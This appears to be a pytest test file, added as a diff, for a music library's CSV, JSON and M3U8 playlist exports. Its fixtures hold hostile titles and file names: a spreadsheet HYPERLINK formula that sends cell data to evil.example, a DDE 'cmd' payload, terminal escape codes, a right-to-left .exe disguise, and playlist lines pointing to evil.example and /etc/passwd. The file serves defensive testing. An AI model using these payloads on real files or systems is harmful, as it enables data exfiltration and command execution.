@@ -1,0 +1,88 @@
+"""Tables and playlists for other programs, with titles and names by people who mean harm."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from library.catalogue.database import Catalogue
+from library.catalogue.tables import Track, digest_of
+from library.collection.exports import WriteError, export, write_playlist
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Song")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+9)*cmd",
+    "\t=1+1",
+    "\r=1+1",
+    '"quoted", and\nbroken',
+    "\x1b[31mred\x1b]0;title\x07",
+    "노래 \u202e3pm.exe",
+)
+
+
+def add(catalogue: Catalogue, *names: str, path: bytes | None = None) -> list[Track]:
+    tracks = []
+    with catalogue.session() as session:
+        for number, name in enumerate(names):
+            file = Path(os.fsdecode(path or b"/music/%d.mp3" % number))
+            tracks.append(Track(path=file, digest=digest_of(file), title=name, artist=name, album=name))
+        session.add_all(tracks)
+        session.commit()
+    return tracks
+
+
+def test_no_cell_of_a_table_is_a_formula(catalogue: Catalogue, tmp_path: Path) -> None:
+    add(catalogue, *HOSTILE, "A song - with a dash")
+    assert export(catalogue, tmp_path / "library.csv") == 10
+    with (tmp_path / "library.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell] == []
+    assert [row["title"].removeprefix("'") for row in rows] == [*HOSTILE, "A song - with a dash"]
+    assert rows[-1]["title"] == "A song - with a dash"
+
+
+def test_a_program_gets_the_words_as_they_are(catalogue: Catalogue, tmp_path: Path) -> None:
+    add(catalogue, *HOSTILE)
+    export(catalogue, tmp_path / "library.json")
+    rows = json.loads((tmp_path / "library.json").read_text("utf-8"))
+    assert [row["title"] for row in rows] == list(HOSTILE)
+
+
+def test_no_title_adds_a_line_to_a_playlist(catalogue: Catalogue, tmp_path: Path) -> None:
+    titles = ("A\nhttp://evil.example/a.mp3", "B\r\n#EXTINF:1,x\n/etc/passwd", "C\u2028\x85\x1b[31m", "D")
+    write_playlist(add(catalogue, *titles), tmp_path / "out.m3u8")
+    text = (tmp_path / "out.m3u8").read_text("utf-8")
+    assert len(text.splitlines()) == 1 + 2 * len(titles)
+    paths = [line for line in text.splitlines() if not line.startswith("#")]
+    assert paths == [f"/music/{number}.mp3" for number in range(len(titles))]
+    assert "\x1b" not in text
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        (b"/music/a\nhttp:/evil.mp3", b"file:///music/a%0Ahttp%3A/evil.mp3"),
+        (b"/music/a.mp3\r", b"file:///music/a.mp3%0D"),
+        (b"/music/#1 \xff \xea\xb9\x80.mp3", b"/music/#1 \xff \xea\xb9\x80.mp3"),
+    ],
+)
+def test_no_name_of_a_file_adds_one_either(
+    catalogue: Catalogue, tmp_path: Path, path: bytes, line: bytes
+) -> None:
+    write_playlist(add(catalogue, "song", path=path), tmp_path / "out.m3u8")
+    lines = (tmp_path / "out.m3u8").read_bytes().split(b"\n")
+    assert lines[2:] == [line, b""]
+
+
+def test_a_file_is_there_whole_or_not_at_all(catalogue: Catalogue, tmp_path: Path) -> None:
+    tracks = add(catalogue, "song")
+    (tmp_path / "out.m3u8").mkdir()
+    with pytest.raises(WriteError):
+        write_playlist(tracks, tmp_path / "out.m3u8")
+    assert [path.name for path in tmp_path.iterdir() if path.name != "var"] == ["out.m3u8"]
